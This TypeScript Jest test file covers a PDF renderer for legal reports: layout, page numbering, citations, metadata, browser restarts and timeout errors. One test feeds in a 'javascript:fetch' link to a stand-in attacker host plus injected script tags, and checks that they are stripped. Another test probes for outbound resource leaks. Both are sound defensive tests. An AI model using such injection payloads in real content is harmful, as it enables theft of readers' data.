import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { chromium } from 'playwright-core';
import { extractText, getDocumentProxy } from 'unpdf';
import { ConfigService } from '@api/modules/config/config.service';
import { loadConfig } from '@api/modules/config/load-config';
import { buildSampleReport } from '@test/fixtures/sample-report';
import { hasTool } from '@test/utils/requirements';
import { PdfRenderer, PdfRenderingUnavailableError, RENDER_TIMED_OUT_MESSAGE } from './pdf-renderer';

jest.setTimeout(120_000);

const OUTPUT_DIR = resolve(__dirname, '../../../../..', 'test-output/reports');
const dataDir = mkdtempSync(join(tmpdir(), 'casewise-pdf-spec-'));

function configWith(chromiumPath: string | null): ConfigService {
  const values = loadConfig({ DATA_DIR: dataDir, LOG_LEVEL: 'error' });
  return new ConfigService({ ...values, pdf: { chromiumPath } });
}

async function pagesOf(pdf: Buffer): Promise<string[]> {
  const { text } = await extractText(new Uint8Array(pdf), { mergePages: false });
  return text.map((page) => page.replace(/\s+/g, ' ').trim());
}

/** Writes the PDF and a PNG of its first page for a person to look at (test-output is not committed). */
async function keepForInspection(name: string, pdf: Buffer): Promise<void> {
  mkdirSync(OUTPUT_DIR, { recursive: true });
  const file = join(OUTPUT_DIR, `${name}.pdf`);
  writeFileSync(file, pdf);
  if (hasTool('pdftoppm', 'apt-get install poppler-utils', 'a PNG of each rendered report\'s first page')) {
    execFileSync('pdftoppm', ['-png', '-r', '60', '-f', '1', '-l', '1', '-singlefile', file, join(OUTPUT_DIR, name)]);
  }
}

describe(PdfRenderer.name, () => {
  const launch = jest.spyOn(chromium, 'launch');
  const sut = new PdfRenderer(configWith(null));

  afterAll(async () => {
    await sut.close();
    launch.mockRestore();
    rmSync(dataDir, { recursive: true, force: true });
  });

  describe('a realistic liability analysis without a Sources section', () => {
    const report = buildSampleReport({ kind: 'liability-analysis', risks: 24, withSourcesSection: false });
    let pdf: Buffer;
    let pages: string[];

    beforeAll(async () => {
      pdf = await sut.render(report);
      pages = await pagesOf(pdf);
      await keepForInspection('liability-analysis', pdf);
    });

    it('is a multi-page PDF', () => {
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(pages.length).toBeGreaterThanOrEqual(5);
    });

    it('opens with the title block as selectable text', () => {
      const first = pages[0];
      expect(first).toContain('Casewise');
      expect(first).toContain('Liability Analysis');
      expect(first).toContain('Harbourline v Northwind: supply chain review');
      expect(first).toContain('14 March 2025, 10:32 UTC');
      expect(first).toContain('Documents analysed (6)');
      expect(first).toContain('Warehouse Lease - Unit 14.txt');
      expect(first).toContain('Engine offline');
    });

    it('carries the headings, the risk register and a quoted clause', () => {
      const all = pages.join(' ');
      for (const heading of ['Executive summary', 'Risk register', 'Detailed findings', '5. Uncapped liability', 'Recommended next steps']) {
        expect(all).toContain(heading);
      }
      expect(all).toContain('Both parties');
      expect(all).toContain(
        'Notwithstanding any limitation of liability in the Principal Agreement, the Controller shall be liable without limit for any fines imposed by a supervisory authority in connection with the Processing.',
      );
    });

    it('marks every page Confidential and numbers it', () => {
      pages.forEach((page, i) => {
        expect(page).toContain('Confidential');
        expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
      });
    });

    it('ends with a sources appendix naming file and page of every citation', () => {
      const appendixStart = pages.findIndex((page) => page.includes('Sources [1]'));
      expect(appendixStart).toBeGreaterThan(0);
      const appendix = pages.slice(appendixStart).join(' ');
      report.citations.forEach((citation, i) => {
        expect(appendix).toContain(`[${i + 1}] ${citation.file}, page ${citation.page}:`);
      });
    });

    it('sets the document title in the PDF metadata', async () => {
      const document = await getDocumentProxy(new Uint8Array(pdf));
      const { info } = (await document.getMetadata()) as { info: { Title?: string } };
      expect(info.Title).toBe('Liability Analysis: Harbourline v Northwind: supply chain review');
    });
  });

  it('keeps neither script nor javascript: link from the markdown', async () => {
    const report = buildSampleReport({
      kind: 'case-summary',
      risks: 3,
      extraMarkdown:
        'Open [the data room](javascript:fetch("https://evil.example/steal")) or [the register](https://example.com/register).\n\n' +
        'Inline <script>document.title = "stolen-inline"</script> text.\n\n<script>\ndocument.title = "stolen-block";\n</script>\n',
    });
    const pdf = await sut.render(report);
    const text = (await pagesOf(pdf)).join(' ');
    await keepForInspection('case-summary', pdf);
    expect(text).toContain('Case Summary');
    expect(text).toContain('Open the data room or the register.');
    expect(text).toContain('Inline text.');
    expect(text).not.toContain('stolen');
    const bytes = pdf.toString('latin1');
    expect(bytes).not.toMatch(/javascript:|evil\.example/i);
    expect(bytes).toContain('https://example.com/register');
  });

  it('fetches nothing a printed page asks for: images, styles, fonts, frames', async () => {
    const requests: string[] = [];
    const listener = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.end('x');
    });
    listener.listen(0, '127.0.0.1');
    await once(listener, 'listening');
    const origin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    try {
      const html =
        `<html><head><link rel="stylesheet" href="${origin}/style.css"><style>@import url("${origin}/import.css");` +
        `@font-face { font-family: leak; src: url("${origin}/font.woff"); } body { font-family: leak; background: url("${origin}/bg.png"); }</style></head>` +
        `<body><p>Report</p><img src="${origin}/leak.png?q=secret"><iframe src="${origin}/frame"></iframe></body></html>`;
      const pdf = await sut.printHtml({ title: 'Probe', html, headerTemplate: '<span></span>', footerTemplate: '<span></span>' });
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(requests).toEqual([]);
    } finally {
      listener.close();
    }
  });

  it('keeps one browser warm across renders, including concurrent ones', async () => {
    const before = launch.mock.calls.length;
    const report = buildSampleReport({ risks: 2 });
    const results = await Promise.all([sut.render(report), sut.render(report), sut.render(report)]);
    for (const pdf of results) expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(launch.mock.calls.length).toBe(before);
    expect(launch.mock.calls.length).toBeLessThanOrEqual(1);
  });

  it('prints only the new report on a page that printed another before', async () => {
    await sut.render(buildSampleReport({ risks: 2, projectName: 'Alpha holdings matter' }));
    const second = (await pagesOf(await sut.render(buildSampleReport({ risks: 2, projectName: 'Beta shipping matter' })))).join(' ');
    expect(second).toContain('Beta shipping matter');
    expect(second).not.toContain('Alpha holdings matter');
  });

  it('starts Chromium again after the browser went away', async () => {
    const { browser } = await sut['getSession']();
    await browser.close();
    const before = launch.mock.calls.length;
    const pdf = await sut.render(buildSampleReport({ risks: 2 }));
    expect((await pagesOf(pdf))[0]).toContain('Liability Analysis');
    expect(launch.mock.calls.length).toBe(before + 1);
  });

  it('starts Chromium again when a print never answers (Chromium killed at the wrong moment), and renders', async () => {
    const print = jest.spyOn(sut as unknown as { print: () => Promise<Buffer> }, 'print').mockImplementationOnce(() => new Promise<Buffer>(() => undefined));
    sut.renderTimeoutMs = 5_000;
    try {
      const before = launch.mock.calls.length;
      const pdf = await sut.render(buildSampleReport({ risks: 2 }));
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(launch.mock.calls.length).toBe(before + 1);
    } finally {
      sut.renderTimeoutMs = 12_000;
      print.mockRestore();
    }
  });

  it('answers 503 rather than waiting for ever when the fresh Chromium does not answer either', async () => {
    const print = jest.spyOn(sut as unknown as { print: () => Promise<Buffer> }, 'print').mockImplementation(() => new Promise<Buffer>(() => undefined));
    sut.renderTimeoutMs = 300;
    try {
      const failure = sut.render(buildSampleReport({ risks: 1 }));
      await expect(failure).rejects.toBeInstanceOf(PdfRenderingUnavailableError);
      await expect(failure).rejects.toMatchObject({ statusCode: 503, message: RENDER_TIMED_OUT_MESSAGE });
    } finally {
      sut.renderTimeoutMs = 12_000;
      print.mockRestore();
    }
  });

  it('fails with a 503 naming CHROMIUM_PATH when Chromium cannot be found', async () => {
    const missing = new PdfRenderer(configWith(join(dataDir, 'no-such-chromium')));
    const failure = missing.render(buildSampleReport({ risks: 1 }));
    await expect(failure).rejects.toBeInstanceOf(PdfRenderingUnavailableError);
    await expect(failure).rejects.toMatchObject({ statusCode: 503, message: expect.stringContaining('CHROMIUM_PATH') });
    await missing.close();
  });
});
